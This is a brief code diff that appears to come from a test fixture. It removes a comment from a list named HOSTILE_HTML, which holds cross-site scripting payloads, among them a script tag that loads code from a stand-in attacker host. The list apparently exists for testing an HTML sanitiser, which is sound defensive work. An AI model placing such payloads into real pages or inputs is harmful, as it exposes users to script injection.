@@ -1,5 +1,4 @@
 import { list } from "./list";
-/** XSS payloads: each would call alert() unsanitised. */
 export const HOSTILE_HTML = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
